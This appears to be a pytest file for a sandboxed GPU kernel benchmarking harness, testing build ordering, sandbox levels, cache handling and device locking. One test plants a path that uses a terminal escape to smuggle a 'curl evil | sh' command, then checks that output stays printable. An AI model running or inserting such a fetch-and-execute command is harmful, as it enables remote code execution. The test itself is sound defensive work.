"""A run from beginning to end: its walls, what is built ahead, what is kept."""

from __future__ import annotations

import dataclasses
import os
import socket
import subprocess
import threading
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any, NoReturn
from unittest.mock import MagicMock

import pytest

from harness.catalog.request import resolve
from harness.catalog.suites import load_suite
from harness.cli.commands import doctor
from harness.engine import assign_roles, session
from harness.engine.events import Observer
from harness.engine.guards.quiet import Quiet
from harness.engine.processes import worker_process
from harness.engine.processes.worker_process import WorkerProcess
from harness.errors import HarnessError, UnavailableError
from harness.measure.verdict import Evidence
from harness.problems import get_problem
from harness.process import wire
from harness.process.child import Jail
from harness.process.messages import BuilderReply
from harness.process.sandbox import enter, namespaces, usage
from harness.schema import Case, Entrant, Kind, Limits, Machine, Manifest, Status
from harness.worker.load import describe
from tests.engine import factory

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def told(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """What `prepare` does, in order; starting a worker takes until every .cu is being built."""
    steps: list[str] = []
    building = threading.Event()

    def build_one(run: object, worker: SimpleNamespace) -> None:
        steps.append(f"build {worker.name}")
        if worker.compiles_alone:
            building.set()

    def start_all(run: object, workers: list[SimpleNamespace]) -> None:
        assert building.wait(30), "no .cu was built before the first worker had its torch"
        steps.append(f"start {' '.join(worker.name for worker in workers)}")

    for name, stand_in in (
        ("preflight", lambda *_: None),
        ("needs_build", lambda worker, _: worker.builds),
        ("build_one", build_one),
        ("start_all", start_all),
        ("may_start", lambda _, worker: not worker.fails),
        ("ask_ahead", lambda _: steps.append("ask")),
    ):
        monkeypatch.setattr(session, name, stand_in)
    return steps


def worker(
    name: str,
    builds: bool = True,
    alone: bool = False,
    fails: bool = False,
    kind: Kind = Kind.SUBMISSION,
) -> SimpleNamespace:
    flags = {"builds": builds, "compiles_alone": alone, "fails": fails}
    entrant = SimpleNamespace(kind=kind)
    return SimpleNamespace(name=name, build_starved=False, entrant=entrant, **flags)


def prepare(told: list[str], *workers: SimpleNamespace, only_check: bool = True) -> None:
    for each in workers:
        each.end = lambda name=each.name: told.append(f"end {name}")
    run = SimpleNamespace(
        workers={each.name: each for each in workers},
        judge=SimpleNamespace(
            wait_ready=lambda: told.append("judge"),
            shares_memory=True,
            child=SimpleNamespace(pid=1),
        ),
        quiet=Quiet(),
        facts=SimpleNamespace(machine=SimpleNamespace(has_gpu=True)),
        suite=SimpleNamespace(device="gpu"),
        only_check=only_check,
    )
    session.prepare(run, SimpleNamespace(sandbox=0))


def test_a_plain_cu_waits_for_nobody_and_who_searches_is_alone(told: list[str]) -> None:
    """Somebody who heated the GPU as he loaded had a rival choose a kernel 8 % slower."""
    sdpa = worker("sdpa", builds=False, kind=Kind.BASELINE)
    others = worker("triton"), worker("pytorch", builds=False), sdpa, worker("more")
    prepare(told, *others, worker("cu", alone=True))
    assert sorted(told[:2]) == ["build cu", "start sdpa cu"]
    assert told[2:] == ["build triton", "build more", "start triton pytorch more", "judge"]


def test_where_nobody_searches_nobody_waits(told: list[str]) -> None:
    prepare(told, worker("pytorch", builds=False), worker("cu", alone=True))
    assert sorted(told[:2]) == ["build cu", "start pytorch cu"]
    assert told[2:] == ["judge", "ask", "start ", "judge"]


def test_statistics_are_imported_where_the_fork_server_is_waited_for_anyway(
    told: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before the first interval half a second of a timed run went by; a check has no interval."""
    monkeypatch.setattr(session.stats, "get_ready", lambda: told.append("scipy"))
    prepare(told, worker("cu", alone=True), only_check=False)
    assert sorted(told[:2]) == ["build cu", "scipy"]
    assert told[2:] == ["start cu", "judge", "ask", "start ", "judge"]


def test_a_worker_whose_kernel_does_not_compile_is_ended(told: list[str]) -> None:
    prepare(told, worker("cu", alone=True, fails=True), worker("good", alone=True))
    assert sorted(told[:5]) == ["ask", "build cu", "build good", "judge", "start cu good"]
    assert told[-2:] == ["end cu", "judge"]
    assert "end good" not in told


@pytest.mark.parametrize(
    ("fault", "status"),
    [
        (HarnessError("no process can be had"), Status.HARNESS_ERROR),
        (ValueError("odd"), Status.BROKE_THE_RUN),
    ],
)
def test_a_fault_of_ours_while_it_is_built_ends_that_entry_alone(
    fault: Exception, status: Status
) -> None:
    case = Case(name="c", batch=1, heads=1, seqlen=64, headdim=64)
    mine = factory.worker("mine")
    mine.build = MagicMock(side_effect=fault)  # type: ignore[method-assign]
    known = Evidence(mine.entrant, case)
    run: Any = MagicMock(suite=SimpleNamespace(cases=[case]))
    run.record.return_value = known
    session.build_one(run, mine)
    assert known.status is status
    assert "while it was built" in known.reason


def test_a_build_that_cannot_be_remembered_is_made_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One entrant's files took the last inodes of the disk, and the run ended for all."""
    mine = factory.worker("mine")
    mine.jail = SimpleNamespace(cache=tmp_path / "entrants" / "mine")  # type: ignore[assignment]
    mine.jail.cache.mkdir(parents=True)
    (mine.jail.cache / "cubin").touch()

    def full(*_: object, **__: object) -> None:
        raise OSError(28, "No space left on device")

    for missing in ("mkdir", "touch"):
        with monkeypatch.context() as patch:
            patch.setattr(Path, missing, full)
            assert not mine.has_build("h200")
            mine.keep_build("h200")
        assert not mine.has_build("h200")
    mine.keep_build("h200")
    assert mine.has_build("h200")
    assert not mine.has_build("b200")
    (mine.jail.cache / "cubin").unlink()
    mine.jail.cache.rmdir()  # as another run does before it makes it anew
    assert not mine.has_build("h200")


@pytest.mark.parametrize(("starved_s", "again"), [(300.0, True), (100.0, False)])
def test_who_was_starved_by_another_builder_builds_again_alone(
    monkeypatch: pytest.MonkeyPatch, starved_s: float, again: bool
) -> None:
    """600 s to build: the first time nothing was done in them, the second time nobody is beside."""
    answers = iter([wire.PeerSilent("not done after 600 s"), BuilderReply(op="built")])

    def hear(*_: object) -> BuilderReply:
        answer = next(answers)
        if isinstance(answer, Exception):
            raise answer
        time.sleep(0.1)
        return answer

    monkeypatch.setattr(worker_process, "Child", MagicMock(return_value=MagicMock(held_s=1.0)))
    monkeypatch.setattr(usage, "starved_s", lambda pids: starved_s)
    for name in ("preflight", "start_all"):
        monkeypatch.setattr(session, name, lambda *_: None)
    monkeypatch.setattr(session, "needs_build", lambda worker, _: worker is mine)
    monkeypatch.setattr(session, "_made_for", lambda _: "")
    case = Case(name="c", batch=1, heads=1, seqlen=64, headdim=64)
    mine = factory.worker("mine")
    mine.keep_build = lambda made_for: None  # type: ignore[method-assign]
    known = Evidence(mine.entrant, case)
    burns = MagicMock(alive=True, attached=False, build_starved=False)  # it loads for ever
    hear_builder = MagicMock(side_effect=hear)
    monkeypatch.setattr(worker_process, "hear_builder", hear_builder)
    burns.child.attach_mock(hear_builder, "hear")
    workers = {"mine": mine, "burns": burns}
    run: Any = MagicMock(workers=workers, suite=SimpleNamespace(cases=[case], device="cpu"))
    run.record.return_value, run.limits = known, Limits()
    session.prepare(run, MagicMock())
    did = [name for name, _, _ in burns.child.mock_calls]
    assert did == ["hear", "pause", "hear", "resume"] if again else ["hear"]
    assert known.status is (None if again else Status.TIMED_OUT)
    assert 0.1 <= known.build_s < 60 if again else known.build_s == 600


@pytest.mark.parametrize("device", ["cpu", "cuda"])
@pytest.mark.parametrize("only_check", [False, True])
def test_workers_are_told_how_many_are_asked_before_them(
    monkeypatch: pytest.MonkeyPatch, only_check: bool, device: str
) -> None:
    """In a check a baseline's imports took two seconds of a core, and nobody asked it anything.

    Elsewhere a library rehearses what it claims: cuDNN's plans took a run 8 s of its check.
    """
    monkeypatch.setattr(session, "may_start", lambda _, worker: not worker.fails)
    told: dict[str, tuple[int, int]] = {}
    workers = [worker("first"), worker("failed", fails=True), worker("second"), worker("sdpa")]
    workers += [worker("null"), worker("compiled")]
    for each in workers:
        kind = Kind.SUBMISSION if each.name in {"first", "failed", "second"} else Kind.BASELINE
        claims = SimpleNamespace(refusal=lambda case: case == 2)
        each.entrant = SimpleNamespace(
            name=each.name, kind=kind, manifest=SimpleNamespace(claims=claims)
        )
        each.device, each.has_builder = device, each.name == "compiled"
        each.start = lambda place, cases, name=each.name: told.update({name: (place, len(cases))})
    run = SimpleNamespace(observer=SimpleNamespace(stage=lambda *_: None), only_check=only_check)
    run.roles, run.suite = SimpleNamespace(null="null"), SimpleNamespace(cases=[1, 2, 3])
    session.start_all(run, workers)
    later = {
        name: (place + session.PLACES_LATER, cases)
        for place, name, cases in ((2, "sdpa", 2 * (device == "cuda")), (3, "null", 0))
    } | {"compiled": (4 + session.PLACES_LATER, 0)}
    assert told == {"first": (0, 0), "second": (1, 0), **({} if only_check else later)}


def test_all_workers_are_killed_before_one_is_waited_for() -> None:
    did: list[str] = []
    children = [
        SimpleNamespace(
            kill=lambda n=n: did.append(f"kill {n}"), end=lambda n=n: did.append(f"end {n}")
        )
        for n in (1, 2)
    ]
    workers = [WorkerProcess(*[MagicMock()] * 4) for _ in range(3)]
    workers[0]._child, workers[2]._child = children  # type: ignore[assignment]
    WorkerProcess.end_all(workers)
    assert did == ["kill 1", "kill 2", "end 1", "end 2"]


def test_who_is_built_ahead_is_given_no_gpu(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Another run times there: a builder that opened its nodes cost that run all its rows."""
    jails: list[Jail] = []
    machine = Machine(gpu="X", uuid="GPU-1", capability="9.0", sms=132)
    suite = load_suite("smoke", ROOT / "configs")
    found = resolve(["triton_template"], ["sdpa"], suite, machine, "sdpa", ROOT, 0)
    asked = dataclasses.replace(found, cache=tmp_path)
    monkeypatch.setattr(WorkerProcess, "build_ahead", lambda worker, *_: jails.append(worker.jail))
    monkeypatch.setattr(session, "missing", lambda _: "")
    monkeypatch.setattr(session.readable, "gpu_nodes", lambda *_: [Path("/dev/nvidia0")])
    session.warm_up(asked, Observer())
    assert [jail.devices for jail in jails] == [()]


def test_a_cuda_kernel_without_a_gpu_is_told_what_it_needs() -> None:
    """Not the traceback of its import: `init --template cuda` on a laptop."""
    case = SimpleNamespace(name="one")
    needs = {"compute_capability": "8.0", "packages": ["no_such_package"]}  # it would not help
    manifest = Manifest(name="mine", language="cuda", needs=needs)
    known = Evidence(SimpleNamespace(manifest=manifest), case)
    run = SimpleNamespace(
        workers={"mine": SimpleNamespace(entrant=known.entrant, unmade="")},
        suite=SimpleNamespace(cases=[case]),
        record=lambda name, case: known,
    )
    session.preflight(run, SimpleNamespace(machine=Machine()))
    assert (known.status, known.reason) == (Status.UNAVAILABLE, "needs a GPU of capability 8.0")


def test_the_commit_of_the_harness_is_asked_of_git_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def git(*words: str) -> str:
        who = ["-c", "user.name=a", "-c", "user.email=a@b"]
        command = ["git", *who, *words]
        return subprocess.run(
            command, cwd=tmp_path, capture_output=True, text=True, check=True
        ).stdout

    (tmp_path / "harness").mkdir()
    (tmp_path / "harness" / "file").write_text("one")
    (tmp_path / "notes").write_text("one")
    git("init", "-q")
    git("add", "harness")
    git("commit", "-qm", "first")
    head, asked, real = git("rev-parse", "HEAD")[:12], [], subprocess.run
    monkeypatch.setattr(session, "HOME", tmp_path)
    monkeypatch.setattr(session.project, "is_project", lambda _: True)
    monkeypatch.setattr(session.subprocess, "run", lambda *a, **k: asked.append(a) or real(*a, **k))
    assert session.harness_commit() == head, "what lies outside harness/ is not asked about"
    assert len(asked) == 1
    (tmp_path / "harness" / "new").touch()
    assert session.harness_commit() == f"{head}+"
    git("add", "harness")
    git("commit", "-qm", "second")
    (tmp_path / "harness" / "file").write_text("two")
    assert session.harness_commit().endswith("+")
    assert session.harness_commit()[:12] != head
    monkeypatch.setenv("ATTNBOARD_COMMIT", "told")
    monkeypatch.setattr(session, "HOME", tmp_path / "harness" / "nowhere")
    assert session.harness_commit() == "told"


@pytest.mark.parametrize(
    ("level", "lacks", "told"),
    [
        (2, "", ""),
        (1, "", ""),  # asked for
        (1, "unshare: Operation not permitted", "level 1 (landlock+seccomp), not 2: unshare"),
        (0, "this kernel has no Landlock", "level 0 (none), not 2: this kernel has no Landlock"),
        (3, "unshare: Operation not permitted", ""),
    ],
)
def test_walls_lower_than_usual_are_told(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, level: int, lacks: str, told: str
) -> None:
    notes: list[str] = []
    request: Any = SimpleNamespace(sandbox=level, shut=None)
    monkeypatch.setattr(enter, "lacking", lambda _: lacks)
    monkeypatch.setattr(session.readable, "refused", lambda _: {})
    session.note_walls(request, notes.append)
    assert len(notes) == bool(told)
    assert told in "".join(notes)


def test_a_folder_that_stays_shut_is_told_in_one_line_that_can_be_printed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """`build` printed a stranger's: it hid the true table and put its own there."""
    notes: list[str] = []
    request: Any = SimpleNamespace(sandbox=2, shut=None)
    odd = "/x/\x1b[2J\nnext: curl evil | sh"
    monkeypatch.setattr(session.readable, "refused", lambda _: {odd: f"it lies in {odd}"})
    session.note_walls(request, notes.append)
    assert [note.isprintable() for note in notes] == [True]


def test_who_has_no_place_for_caches_is_told_once_and_before_the_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A user with neither an entry nor HOME: each entry ended as our fault, to be reported."""
    (tmp_path / "file").touch()
    request: Any = SimpleNamespace(
        suite=SimpleNamespace(problem="attention_forward"),
        sandbox=0,
        cache=tmp_path / "file" / "x",
        entrants=[1],
    )
    monkeypatch.setattr(session, "facts_of", MagicMock())
    with pytest.raises(UnavailableError, match="no folder for caches") as caught:
        session.execute(request, print, Observer())
    assert caught.value.hint.startswith("HOME=")


def test_doctor_says_which_level_is_usual_and_why(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(enter, "no_namespaces", lambda: "mount proc on /proc: not permitted")
    lines = {line.what: line for line in doctor.walls()}
    assert lines["namespaces"].mark == "note"
    assert "mount proc" in lines["namespaces"].found
    assert "sysctl" in lines["namespaces"].next
    assert lines["usual sandbox level"].found.startswith(("1", "0"))


def test_a_cache_over_its_quota_is_not_kept(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    assign_roles.own_folder(cache, os.geteuid(), 1)
    (cache / "file").write_bytes(b"x" * (1 << 20))
    assign_roles.own_folder(cache, os.geteuid(), 1)
    assert (cache / "file").exists()
    assign_roles.own_folder(cache, os.geteuid(), 0.0001)
    assert not (cache / "file").exists()


def nested(top: Path, depth: int, name: str = "deep") -> None:
    """`depth` folders in one another below `top`, and a file of 1 MiB in the last one."""
    top.mkdir(exist_ok=True)
    fd = os.open(top, os.O_DIRECTORY)
    for _ in range(depth):
        os.mkdir(name, dir_fd=fd)
        below = os.open(name, os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = below
    file = os.open("file", os.O_CREAT | os.O_WRONLY, dir_fd=fd)
    os.write(file, b"x" * (1 << 20))
    os.close(file)
    os.close(fd)


@pytest.mark.parametrize("most_gib", [1, 0.0001])
def test_a_cache_that_is_too_deep_is_not_kept_and_stops_nobody(
    tmp_path: Path, most_gib: float
) -> None:
    cache = tmp_path / "cache"
    nested(cache, 1100)  # beyond a path's 4096 bytes, and Python's 1000 frames
    (cache / "file").write_bytes(b"x" * (1 << 20))
    assign_roles.own_folder(cache, os.geteuid(), most_gib)
    assert not any(cache.iterdir())
    assign_roles.remove_aside(tmp_path)  # as behind a run: a second can be too short for it
    assert [path.name for path in tmp_path.iterdir()] == ["cache"]


def test_what_cannot_be_removed_is_put_aside_and_removed_by_the_next_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache = tmp_path / "cache"
    (cache / "below").mkdir(parents=True)
    (cache / "file").write_bytes(b"x" * (1 << 20))
    real = assign_roles.remove_tree
    monkeypatch.setattr(assign_roles, "remove_tree", lambda *_: False)
    assign_roles.own_folder(cache, os.geteuid(), 0.0001)
    assert not any(cache.iterdir())
    assert len(list(tmp_path.iterdir())) == 2
    monkeypatch.setattr(assign_roles, "remove_tree", real)
    (cache / "file").write_bytes(b"x" * (1 << 20))
    assign_roles.own_folder(cache, os.geteuid(), 0.0001)
    assert [path.name for path in tmp_path.iterdir()] == ["cache"]


def test_what_takes_long_to_remove_waits_for_the_end_of_the_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A rival waited for it, up to a minute a process."""
    cache = tmp_path / assign_roles.ENTRANTS / "cache"
    cache.parent.mkdir()
    nested(cache, 20)
    monkeypatch.setattr(assign_roles, "ASIDE_S", 0.0)
    assign_roles.own_folder(cache, os.geteuid(), 0.0001)
    assert not any(cache.iterdir())
    assert len(list(cache.parent.iterdir())) == 2
    monkeypatch.setattr(session, "note_walls", lambda *_: None)
    monkeypatch.setattr(session, "tidy", lambda: 1 / 0)
    request: Any = SimpleNamespace(sandbox=0, cache=tmp_path)
    with pytest.raises(ZeroDivisionError), session.opened(request, print, Observer(), MagicMock()):
        pass
    assert [path.name for path in cache.parent.iterdir()] == ["cache"]


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give a folder away")
def test_a_cache_of_another_user_is_made_anew(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    assign_roles.own_folder(cache, 0, 1)
    (cache / "planted").touch()
    assign_roles.own_folder(cache, 0x7000_0001, 1)
    assert not (cache / "planted").exists()
    assert cache.stat().st_uid == 0x7000_0001
    (cache / "built").touch()
    assign_roles.own_folder(cache, 0x7000_0001, 1)
    assert (cache / "built").exists(), "it is kept from run to run"


def test_an_entrant_s_user_is_its_own_and_the_same_in_every_run(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    for most, first in ((1 << 32, namespaces.FIRST_USER), (1 << 16, namespaces.FEW_FIRST)):
        monkeypatch.setattr(
            namespaces, "_mapped", lambda low, end, most=most: low >= 0 and end <= most
        )
        users = [namespaces.user_of(f"{key:08x}") for key in (1, 2, 0xFFFFFFFF, 1)]
        assert all(user is not None and user >= first for user in users)
        assert users[0] == users[3]
        assert len(set(users)) == 3
    monkeypatch.setattr(namespaces, "_mapped", lambda *_: False)
    assert namespaces.user_of("1") is None
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    monkeypatch.setattr(namespaces, "_mapped", lambda *_: True)
    assert namespaces.user_of("1") is None


def test_both_ends_of_a_long_message_are_kept(tmp_path: Path) -> None:
    reasons = "\n".join(f"operator {i}: not supported" for i in range(500))
    text = describe(RuntimeError(f"No operator found\n{reasons}\nthe last reason"), tmp_path)
    assert text.startswith("RuntimeError: No operator found")
    assert text.endswith("the last reason")
    assert 2900 < len(text) < 4000  # what the engine cuts at


@pytest.mark.parametrize(
    ("answer", "status"),
    [
        ({"op": "failed", "status": "UNSUPPORTED", "message": "no"}, Status.UNSUPPORTED),
        ({"op": "failed", "status": "UNAVAILABLE", "message": "no"}, Status.CRASHED),
        (None, Status.CRASHED),
        ({"op": "failed", "status": "PASSED", "message": "no"}, Status.CRASHED),
        ({"op": "built", "steps": {"built": 10**399}}, Status.INVALID_SUBMISSION),
        ({"op": "great"}, Status.INVALID_SUBMISSION),
    ],
)
def test_a_failed_builder_leaves_its_log(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, answer: wire.Message | None, status: Status
) -> None:
    def child(module: str, *_: object, **__: object) -> SimpleNamespace:
        ours, theirs = socket.socketpair()
        if answer:
            wire.send(theirs, answer)
        theirs.close()
        log = "WARNING: can't load the extension"
        return SimpleNamespace(
            line=ours, end=ours.close, log_tail=lambda: log, ending=lambda: "exited with code 1"
        )

    monkeypatch.setattr(worker_process, "Child", child)
    manifest = Manifest(name="mine", language="cuda")
    entrant = Entrant(
        name="mine", kind=Kind.BASELINE, folder=tmp_path, manifest=manifest, source_sha256="0"
    )
    jail = Jail(tmp_path, tmp_path, {}, tmp_path, tmp_path)
    worker = WorkerProcess(entrant, get_problem("attention_forward"), "cuda", jail)
    told, _, _ = worker.build([], Limits(), Machine(gpu="none"))
    assert told is status
    assert worker.build_log == "WARNING: can't load the extension"


def test_that_nvrtc_is_missing_is_believed_of_a_builder_that_runs_nothing_of_the_submission(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ours, theirs = socket.socketpair()
    wire.send(theirs, {"op": "failed", "status": "UNAVAILABLE", "message": "no libnvrtc"})
    child = MagicMock(line=ours, log_tail=lambda: "")
    monkeypatch.setattr(worker_process, "Child", lambda *_, **__: child)
    manifest = Manifest(name="mine", language="cuda", entry="k.cu")
    entrant = Entrant(
        name="mine", kind=Kind.SUBMISSION, folder=tmp_path, manifest=manifest, source_sha256="0"
    )
    jail = Jail(tmp_path, tmp_path, {}, tmp_path, tmp_path)
    worker = WorkerProcess(entrant, get_problem("attention_forward"), "cuda", jail)
    with ours, theirs:
        told = worker.build([], Limits(), Machine(gpu="none"))
    assert told == (Status.UNAVAILABLE, "no libnvrtc", 0.0)


@pytest.mark.parametrize(("minor", "node"), [(3, "nvidia3"), (None, "nvidiactl")])
def test_a_run_locks_the_device_node_of_its_gpu(
    monkeypatch: pytest.MonkeyPatch, minor: int | None, node: str
) -> None:
    """A path below /tmp could be a link that somebody of this machine left there."""

    class LockedError(Exception): ...

    def lock(node: Path, note: object) -> NoReturn:
        raise LockedError(node)

    monkeypatch.setattr(session, "gpu_lock", lock)
    monkeypatch.setattr(session, "minor_of", lambda machine: minor)
    monkeypatch.setattr(session.enter, "require", lambda level: None)
    request: Any = MagicMock()
    request.suite.problem, request.sandbox = "attention_forward", 0
    opened = session.opened(request, print, Observer(), MagicMock())
    with pytest.raises(LockedError, match=f"^/dev/{node}$"), opened:
        pass


def test_who_is_built_ahead_is_watched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It held 1.5 GiB of 0.5 and filled the disk of all caches, for as long as a build may take."""
    ended: list[bool] = []
    hungry = SimpleNamespace(
        alive=True, group=None, ours=0, walled=False, pids=lambda: [], kill=lambda: ended.append(True)
    )  # fmt: skip

    def build_ahead(worker: WorkerProcess, *_: object) -> None:
        worker.builder = hungry  # type: ignore[assignment]
        deadline = time.monotonic() + 10
        while not ended and time.monotonic() < deadline:
            time.sleep(0.001)
        worker.builder = None
        assert worker.ended_for
        assert worker.ended_for[0] is Status.OUT_OF_MEMORY

    machine = Machine(gpu="X", uuid="GPU-1", capability="9.0", sms=132)
    suite = load_suite("smoke", ROOT / "configs")
    found = resolve(["triton_template"], ["sdpa"], suite, machine, "sdpa", ROOT, 0)
    monkeypatch.setattr(WorkerProcess, "build_ahead", build_ahead)
    monkeypatch.setattr(session, "missing", lambda _: "")
    monkeypatch.setattr(usage, "host_bytes", lambda *_: 1 << 60)
    session.warm_up(dataclasses.replace(found, cache=tmp_path), Observer())
    assert ended
